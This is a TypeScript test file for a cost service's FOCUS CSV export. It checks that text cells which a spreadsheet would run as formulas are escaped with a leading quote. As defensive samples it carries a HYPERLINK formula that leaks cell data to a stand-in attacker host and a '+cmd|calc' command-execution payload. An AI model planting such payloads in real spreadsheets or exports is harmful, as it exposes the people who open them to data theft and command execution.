import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { csvLine } from '../../tools/gpd/gpd-content';
import { importFocus } from '../support/focus';
import { Platform, startPlatform } from '../support/platform';

const HEADER = [
  'BilledCost',
  'BillingAccountId',
  'BillingCurrency',
  'ChargeCategory',
  'ChargePeriodStart',
  'ChargePeriodEnd',
  'ProviderName',
  'ServiceCategory',
  'ServiceName',
  'Id',
  'ResourceName',
  'x_Note',
];
const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")';

/** The FOCUS CSV export is for people: a text cell a spreadsheet would run as a formula opens as text. */
describe('costasset FOCUS CSV export and formula cells', () => {
  let platform: Platform;
  let admin: string;

  beforeAll(async () => {
    platform = await startPlatform();
    admin = await platform.token({ sub: 'admin' });
  });
  afterAll(() => platform.close());

  it('exports text cells that start with =, @ or + with a leading quote, and numbers as numbers', async () => {
    const rows = [
      ['-2.5', 'acc', 'USD', 'Usage', '2022-01-01', '2022-01-02', 'AWS', 'Compute', '+cmd|calc', 'r1', HYPERLINK, '@SUM(1+1)'],
      ['3', 'acc', 'USD', 'Usage', '2022-01-01', '2022-01-02', 'AWS', 'Compute', 'EC2', 'r2', 'web-1', '-not a number'],
    ];
    const csv = Buffer.from(csvLine(HEADER) + rows.map((row) => csvLine(row)).join(''));
    const imported = await importFocus(platform, admin, [{ name: 'formulas.csv', body: csv }], { focusVersion: '1.2' });
    expect(imported.job).toMatchObject({ result: { rowsWritten: 2 } });

    const exported = await request(platform.costasset.url)
      .get('/api/costasset/v1/costLineItems/export')
      .query({ format: 'csv', billingPeriod: '202201' })
      .set('corelite-token', admin)
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);
    const [header, ...records] = parse(exported.body as Buffer) as string[][];
    // the rows are told apart by their cost: -2.5 for r1, 3 for r2
    const cost = { r1: '-2.5', r2: '3' };
    const cell = (id: keyof typeof cost, column: string) =>
      records.find((record) => record[header.indexOf('BilledCost')] === cost[id])?.[header.indexOf(column)];
    expect(records).toHaveLength(2);
    expect(cell('r1', 'ResourceName')).toBe(`'${HYPERLINK}`);
    expect(cell('r1', 'x_Note')).toBe("'@SUM(1+1)");
    expect(cell('r1', 'ServiceName')).toBe("'+cmd|calc");
    expect(cell('r2', 'x_Note')).toBe("'-not a number");
    expect(cell('r2', 'ResourceName')).toBe('web-1');
    // no cell of the file starts a formula
    const unsafe = records.flat().filter((value) => /^[=+\-@\t\r]/.test(value) && !/^[+-]?\d+(\.\d+)?$/.test(value));
    expect(unsafe).toEqual([]);
  });
});
